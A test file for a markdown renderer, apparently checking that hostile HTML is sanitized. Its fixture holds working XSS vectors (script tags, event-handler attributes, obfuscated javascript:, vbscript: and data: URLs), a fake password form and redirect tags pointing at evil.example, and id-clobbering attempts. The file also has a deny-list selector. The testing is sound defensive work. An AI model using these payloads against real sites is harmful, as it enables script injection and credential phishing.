import { screen } from '@testing-library/react';
import { renderMarkdown } from '../__testUtils__/renderMarkdown';

const hostile = `
<script>alert('script')</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password" type="password"><button>Send</button></form>
<object data="https://evil.example/"></object>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<math><mtext><img src=x onerror="alert('math')"></mtext></math>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/evil.css">

<img src="x.png" onerror="alert('image')" alt="a photo">
<p onclick="alert('p')" style="position:fixed" class="bui-Button" id="root">Kept text</p>
<details ontoggle="alert('details')" open><summary>Summary</summary>Hidden text</details>
<a href="javascript:alert('raw')">raw</a>
<a href="jav&#x09;ascript:alert('tab')">tab</a>
<a href="  javascript:alert('space')">space</a>
<a href="data:text/html,<script>alert('data')</script>">data</a>
<a href="vbscript:msgbox('vb')">vbscript</a>
<img src="javascript:alert('img')" alt="script image">
<img src="data:text/html,<script>alert(1)</script>" alt="html image">
<a name="root">anchor</a>

[markdown](javascript:alert('markdown)) and [encoded](data:text/html;base64,PHNjcmlwdD4=)
![picture](javascript:alert('picture'))
`;

describe('Markdown with hostile HTML', () => {
  it('lets nothing run, post or load, and keeps what is harmless', () => {
    const { container } = renderMarkdown(hostile);

    const forbidden =
      'script, style, iframe, form, object, svg:not([aria-hidden], [aria-label]), math, base, meta, link, button:not([type=button]), input, [style]';
    expect([...container.querySelectorAll(forbidden)]).toEqual([]);
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
      }
    }
    for (const name of ['raw', 'tab', 'space', 'data', 'vbscript']) {
      expect(screen.getByText(name)).not.toHaveAttribute('href');
    }
    expect(screen.queryAllByRole('link')).toEqual([]);
    expect(screen.getByText('Kept text')).not.toHaveAttribute('class');
    expect(screen.getByText('Hidden text')).toBeVisible();
    expect(screen.getByText(/Image not available: picture/)).toBeVisible();
    expect(screen.getByText(/Image not available: script image/)).toBeVisible();
    expect(screen.getByText(/Image not available: html image/)).toBeVisible();
  });

  it('keeps ids of a document from standing for those of the page', () => {
    const { container } = renderMarkdown(hostile);

    expect(container.querySelector('#root, [name=root]')).toBeNull();
    expect(screen.getByText('Kept text')).toHaveAttribute(
      'id',
      'user-content-root',
    );
  });

  it('runs nothing that a resolver hands out either', () => {
    renderMarkdown('[page](page.md) ![image](image.png)', {
      // eslint-disable-next-line no-script-url -- that it goes nowhere is the point
      resolveLink: () => ({ href: 'javascript:alert(1)', external: false }),
      resolveImage: () => 'data:text/html,evil',
    });

    expect(screen.queryByRole('link')).toBeNull();
    expect(screen.queryByRole('img')).toBeNull();
    expect(screen.getByText('page')).toBeVisible();
  });
});
